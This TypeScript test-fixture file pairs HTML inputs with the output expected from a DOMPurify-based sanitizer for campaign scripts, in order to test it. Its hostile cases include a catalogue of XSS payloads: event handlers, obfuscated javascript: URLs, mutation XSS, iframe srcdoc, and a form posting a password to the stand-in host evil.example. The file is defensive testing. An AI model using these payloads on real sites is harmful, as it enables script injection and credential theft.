/**
 * Campaign script payloads and what SafeHtml shows for each in a real browser (Chromium, DOMPurify with
 * SCRIPT_HTML_CONFIG). Shared by tests/e2e/safe-html.test.ts (exact markup, React and Preact, in a shadow root) and
 * sdk/ui/safe-html.test.tsx (happy-dom: the same text, shown as plain text). Every payload that could run code sets
 * `window.__pwned` (or calls alert) so the browser test can tell that nothing ran.
 */
export type ScriptHtmlCase = { name: string; html: string; expected: string };

const PWN = "window.__pwned='x'";

/** Hostile input: what must go, and the harmless part that must stay. */
export const HOSTILE_CASES: ScriptHtmlCase[] = [
  {
    name: '<script> with its code',
    html: `<p>Before</p><script>${PWN}</script><p>After</p>`,
    expected: '<p>Before</p><p>After</p>',
  },
  { name: '<script src>', html: '<p>Hi</p><script src="https://evil.example/x.js"></script>', expected: '<p>Hi</p>' },
  { name: '<img onerror>', html: `<p>Hi</p><img src="x" onerror="${PWN}">`, expected: '<p>Hi</p>' },
  {
    name: '<a href="javascript:…">',
    html: `<p><a href="javascript:${PWN}">click</a></p>`,
    expected: '<p><a>click</a></p>',
  },
  { name: 'mixed-case JaVaScRiPt: with spaces', html: `<a href="  JaVaScRiPt:${PWN}">x</a>`, expected: '<a>x</a>' },
  {
    name: 'entity-encoded javascript: (decimal)',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    expected: '<a>x</a>',
  },
  {
    name: 'entity-encoded javascript: (hex, tab inside)',
    html: '<a href="java&#x09;script&#x3A;alert(1)">x</a>',
    expected: '<a>x</a>',
  },
  { name: 'javascript: with a newline inside', html: '<a href="java\nscript:alert(1)">x</a>', expected: '<a>x</a>' },
  { name: 'vbscript:', html: '<a href="vbscript:msgbox(1)">x</a>', expected: '<a>x</a>' },
  {
    name: 'data: URL link',
    html: '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">d</a>',
    expected: '<a>d</a>',
  },
  {
    name: 'data: URL image',
    html: '<p>ok</p><img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">',
    expected: '<p>ok</p>',
  },
  { name: 'relative link', html: '<a href="/settings">x</a>', expected: '<a>x</a>' },
  { name: 'empty href', html: '<a href="">x</a>', expected: '<a>x</a>' },
  { name: '<svg onload>', html: `<svg onload="${PWN}"><circle r="1"></circle></svg><p>ok</p>`, expected: '<p>ok</p>' },
  { name: '<svg><script>', html: `<svg><script>${PWN}</script></svg><p>ok</p>`, expected: '<p>ok</p>' },
  {
    name: '<math> with a javascript: link',
    html: '<math><mtext><a xlink:href="javascript:alert(1)">m</a></mtext></math><p>ok</p>',
    expected: '<p>ok</p>',
  },
  {
    name: '<iframe src/srcdoc>',
    html: `<iframe src="javascript:parent.__pwned='x'"></iframe><iframe srcdoc="<script>parent.__pwned='x'</script>"></iframe><p>ok</p>`,
    expected: '<p>ok</p>',
  },
  {
    name: '<object>, <embed>',
    html: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><p>ok</p>',
    expected: '<p>ok</p>',
  },
  {
    name: '<style> and style attributes',
    html: '<style>p { background: url(https://evil.example/track) }</style><p style="position:fixed;inset:0">ok</p>',
    expected: '<p>ok</p>',
  },
  {
    name: '<form> with fields',
    html: '<form action="https://evil.example/steal"><input name="password"><textarea>typed</textarea><button formaction="javascript:alert(1)">Go</button></form><p>ok</p>',
    expected: '<p>ok</p>',
  },
  {
    name: 'event handlers and other attributes',
    html: `<p onclick="${PWN}" style="color:red" class="x" id="y" data-x="1" aria-label="z" title="t">Hi <strong onmouseover="${PWN}">there</strong></p>`,
    expected: '<p>Hi <strong>there</strong></p>',
  },
  {
    name: '<details ontoggle>',
    html: `<details open ontoggle="${PWN}"><summary>s</summary>body</details>`,
    expected: 'sbody',
  },
  {
    name: '<base>, <meta refresh>, <link>',
    html: '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel="stylesheet" href="https://evil.example/x.css"><p>ok</p>',
    expected: '<p>ok</p>',
  },
  {
    name: 'mutation XSS through <noscript>',
    html: `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`,
    expected: '<p></p>',
  },
  { name: '<template>', html: `<template><img src=x onerror="${PWN}"></template><p>ok</p>`, expected: '<p>ok</p>' },
  // `<!-->` is a whole (empty) comment: the image after it is markup, the closing `-->` text.
  { name: 'comments', html: '<!-- note --><p>ok</p><!--><img src=x onerror=alert(1)>-->', expected: '<p>ok</p>--&gt;' },
  {
    name: 'a link opened in this tab with an opener',
    html: '<a href="https://brand.example/o?x=1&amp;y=2" target="_self" rel="opener">offer</a>',
    expected: '<a href="https://brand.example/o?x=1&amp;y=2" rel="noopener noreferrer" target="_blank">offer</a>',
  },
];

/** Markup a campaign script may use: kept as it is (links gain rel and, for the web, target). */
export const ALLOWED_CASES: ScriptHtmlCase[] = [
  {
    name: 'paragraphs, lists, emphasis and line breaks',
    html: '<p>Say <strong>hello</strong> and <em>smile</em>.<br>Then:</p><ol><li><b>one</b></li><li><i>two</i></li></ol><ul><li>three</li></ul>',
    expected:
      '<p>Say <strong>hello</strong> and <em>smile</em>.<br>Then:</p><ol><li><b>one</b></li><li><i>two</i></li></ol><ul><li>three</li></ul>',
  },
  {
    name: 'https link',
    html: '<p>See <a href="https://brand.example/offer">the offer</a>.</p>',
    expected:
      '<p>See <a href="https://brand.example/offer" rel="noopener noreferrer" target="_blank">the offer</a>.</p>',
  },
  {
    name: 'http link',
    html: '<a href="http://brand.example/">site</a>',
    expected: '<a href="http://brand.example/" rel="noopener noreferrer" target="_blank">site</a>',
  },
  {
    name: 'mailto link (same tab)',
    html: '<a href="mailto:host@brand.example">mail us</a>',
    expected: '<a href="mailto:host@brand.example" rel="noopener noreferrer">mail us</a>',
  },
  {
    name: 'other elements unwrapped, text kept',
    html: '<div class="x"><h1>Title</h1><span>Read <u>this</u></span></div>',
    expected: 'TitleRead this',
  },
  { name: 'plain text', html: 'Just say it & smile', expected: 'Just say it &amp; smile' },
  {
    name: 'the demo scenario script',
    html: '<p>Say in your own voice why you enjoy <strong>Castwave Daily</strong>.</p>',
    expected: '<p>Say in your own voice why you enjoy <strong>Castwave Daily</strong>.</p>',
  },
];

export const SCRIPT_HTML_CASES: ScriptHtmlCase[] = [...HOSTILE_CASES, ...ALLOWED_CASES];

/** Elements and attributes a rendered script may contain at all (the allow-list plus what the link hook adds). */
export const RENDERED_TAGS = ['p', 'ul', 'ol', 'li', 'strong', 'em', 'b', 'i', 'br', 'a'];
export const RENDERED_ATTRIBUTES = ['href', 'rel', 'target'];
